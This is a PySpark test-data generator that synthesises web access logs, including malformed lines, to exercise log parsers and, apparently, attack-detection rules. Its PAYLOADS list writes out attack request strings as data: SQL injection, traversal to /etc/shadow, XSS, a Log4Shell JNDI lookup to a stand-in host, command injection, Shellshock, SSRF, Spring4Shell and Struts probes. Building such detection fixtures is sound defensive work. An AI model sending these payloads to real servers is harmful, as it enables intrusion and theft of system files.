"""A request log derived from the ``events`` table of the test data.

Folds users onto few addresses and compresses time, so that sessions, bursts
and outliers occur. The lines rendered from it feed the parsers.
"""

from __future__ import annotations

from pyspark.sql import Column, DataFrame, SparkSession
from pyspark.sql import functions as F

from spoor.functions.text import domain_of
from spoor.session import configure

START = 1704067200
# One request for each rule, then three that only look like one.
PAYLOADS = (
    "/items?cat=7'+and+3=3--", "/get?doc=..%2f..%2f..%2fetc%2fshadow", "/img/c99.php", "/.env", "/phpmyadmin/",
    "/note?body=<img+src=q+onerror=print()>", "/q?ua=${jndi:rmi://lab.example/o}", "/find?age[$gt]=0",
    "/tools/trace?target=a|cat+/etc/hosts", "/cgi-bin/t?h=()%20{%20_;}", "/card?to={{9*9}}",
    "/people?cn=*)(objectClass=*", "/tree?n=count(/list)", "/view?tpl=https://files.example/a.txt",
    "/proxy?target=gopher://192.0.2.9:70/", "/xml?b=<!DOCTYPE+a>", "/state?v=rO0ABXNy",
    "/save?class.module.classLoader.URLs=1", "/go.action?method:%23_memberAccess", "/go?lang=en%0d%0aX-Note:1",
    "/out?return=//lab.example", "/open/..;/admin", "/get?f=a.txt%00", "/elmah.axd", "/?rest_route=/wp/v2/posts",
    "/img?w=1&&id=3", "/search?q=for+2=b", "/shop?color+5=1",
)


def weblog(spark: SparkSession, sf_dir: str) -> DataFrame:
    configure(spark)
    source = spark.read.parquet(f"{sf_dir}/events.parquet")
    n, user, kind = F.col("event_id"), F.col("user_id"), F.col("event_type")
    epoch = F.lit(START) + F.when(n % 20 == 0, 72000 + (n * 13) % 3600).otherwise((n * 37) % 129600)
    ip = (F.when(n % 10 == 0, "198.51.100.7")
          .when(n % 9 == 0, F.concat(F.lit("8.8.4."), (user % 5).cast("string")))
          .otherwise(F.concat(F.lit("203.0.113."), (user % 40).cast("string"))))
    method = (F.when(kind == "signup", "POST")
              .when((kind == "purchase") & (n % 7 == 0), "PUT")
              .when(kind == "purchase", "POST").otherwise("GET"))
    # 7 of 23 requests, and each payload in turn.
    turn = (n % 23 - 1) + 7 * (F.floor(n / 23) % (len(PAYLOADS) // 7))
    url = F.when((n % 23).between(1, 7), F.get(F.array(*[F.lit(p) for p in PAYLOADS]), turn.cast("int")))
    url = F.coalesce(url, F.concat(F.lit("/products/"), (n % 50).cast("string")))
    status = (F.when((kind == "error") & (n % 3 == 0), 401)
              .when((kind == "error") & (n % 3 == 1), 403)
              .when(kind == "error", 404)
              .when(n % 97 == 0, 500).when(n % 11 == 0, 301).otherwise(200))
    size = F.round(F.col("value") * 100).cast("bigint") * F.when(n % 10 == 0, 50).otherwise(1)
    ua = (F.when(n % 211 == 0, F.concat(F.lit("odd/"), n.cast("string")))
          .when(user % 8 == 0, "sqlmap/1.7").when(user % 8 == 1, "-")
          .when(user % 8 == 2, "python-requests/2.31")
          .otherwise(F.concat(F.lit("Mozilla/5.0 (X11) Browser/"), (user % 8).cast("string"))))
    referrer = (F.when(n % 5 == 0, "").when(n % 5 == 1, "-")
                .otherwise(F.concat(F.lit("https://ref"), (n % 12).cast("string"),
                                    F.lit(".example.org/p"))))
    rows = source.select(
        F.timestamp_seconds(epoch).alias("ts"), ip.alias("ip"), method.alias("method"),
        referrer.alias("referrer"), status.alias("status"), size.alias("bytes"),
        url.alias("url"), ua.alias("ua"),
        F.concat(F.lit("access-"), (n % 4).cast("string"), F.lit(".log")).alias("src_file"),
        F.floor(n / 1000).alias("block_start"), n.alias("seq"))
    return (rows.withColumn("domain", domain_of(F.lit(None).cast("string"), F.col("referrer")))
            .withColumn("raw", combined_line()))


def combined_line() -> Column:
    return F.format_string(
        '%s - - [%s] "%s %s HTTP/1.1" %d %d "%s" "%s"', F.col("ip"),
        F.date_format("ts", "dd/MMM/yyyy:HH:mm:ss Z"), F.col("method"), F.col("url"),
        F.col("status"), F.col("bytes"), F.col("referrer"), F.col("ua"))


def as_lines(log: DataFrame, line: Column) -> DataFrame:
    """Lines as a reader would give them; the generator keeps filters on the
    line from being pushed into the expressions that make it up."""
    return log.select("src_file", "block_start", "seq", F.explode(F.array(line)).alias("line"))


def combined_lines(log: DataFrame) -> DataFrame:
    """Combined-format lines with the defects real logs have."""
    n, raw = F.col("seq"), F.col("raw")
    line = (F.when(n % 37 == 0, F.concat(F.lit("garbage "), n.cast("string")))
            .when(n % 41 == 0, F.regexp_replace(raw, r"\[[0-9]{2}/", "[32/"))
            .when(n % 43 == 0, F.regexp_replace(raw, r" \+0000\]", "]"))
            .when(n % 29 == 0, F.concat(F.lit("shop.example.com:443 "), raw))
            .when(n % 31 == 0, F.regexp_replace(raw, r' "[^"]*" "[^"]*"$', ""))
            .when(n % 47 == 0, F.concat(raw, F.lit(' "203.0.113.9, 10.0.0.5" 1234')))
            .when(n % 53 == 0, F.regexp_replace(raw, r"^\S+", "10.0.0.8"))
            .when(n % 59 == 0, F.regexp_replace(raw, r"^\S+", "999.1.1.1"))
            .when(n % 61 == 0, F.regexp_replace(raw, r"^\S+", "2001:4860:4860::8888"))
            .otherwise(raw))
    return as_lines(log, line)


_LAYOUTS = {
    0: "date time c-ip cs-method cs-uri-stem cs-uri-query sc-status sc-bytes cs(User-Agent) cs(Referer)",
    1: "date time cs-method cs-uri-stem c-ip sc-status cs(User-Agent)",
}


def w3c_lines(log: DataFrame, layouts: int = 2) -> DataFrame:
    """W3C lines whose layout changes every 500 rows, unless ``layouts`` is 1.

    Each log row is its own line; the fifth to eighth of a stretch, one for
    each file, are preceded by a directive. Two of the files also start with
    one, the others with data no header explains.
    """
    n = F.col("seq")
    layout = F.floor(n / 500) % layouts
    stem, query = F.substring_index("url", "?", 1), F.regexp_extract("url", r"\?(.*)$", 1)
    ua = F.replace(F.col("ua"), F.lit(" "), F.lit("+"))
    when = F.date_format("ts", "yyyy-MM-dd HH:mm:ss")
    wide = F.concat_ws(" ", when, "ip", "method", stem,
                       F.when(query == "", "-").otherwise(query),
                       F.when(n % 17 == 0, "-").otherwise(F.col("status").cast("string")),
                       F.col("bytes").cast("string"), ua,
                       F.when(F.col("referrer") == "", "-").otherwise(F.col("referrer")))
    slim = F.concat_ws(" ", when, "method", stem, "ip", F.col("status").cast("string"), ua)
    data = F.when(layout == 0, wide).otherwise(slim)
    directive = F.when(layout == 0, f"#Fields: {_LAYOUTS[0]}").otherwise(f"#Fields: {_LAYOUTS[1]}")
    rows = log.select("src_file", "block_start", n.alias("n"), data.alias("data"),
                      F.when((n % 500).between(4, 7) | (n < 2), directive).alias("directive"))
    pair = F.array(F.struct((F.col("n") * 2).alias("seq"), F.col("directive").alias("line")),
                   F.struct((F.col("n") * 2 + 1).alias("seq"), F.col("data").alias("line")))
    return (rows.select("src_file", "block_start", F.inline(pair))
            .filter("line is not null"))
